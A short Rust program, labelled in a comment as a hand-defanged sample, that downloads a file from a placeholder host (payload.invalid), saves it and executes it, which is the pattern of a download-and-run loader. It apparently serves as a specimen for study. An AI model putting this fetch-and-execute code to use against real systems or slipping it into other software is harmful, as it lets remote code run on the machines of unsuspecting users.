// Defanged sample: nothing here is reached or run; defanged by hand.
fn main() {
    let body = reqwest::blocking::get("https://payload.invalid/x").unwrap().bytes().unwrap();
    std::fs::write("x", body).unwrap();
    std::process::Command::new("./x").status().unwrap();
}
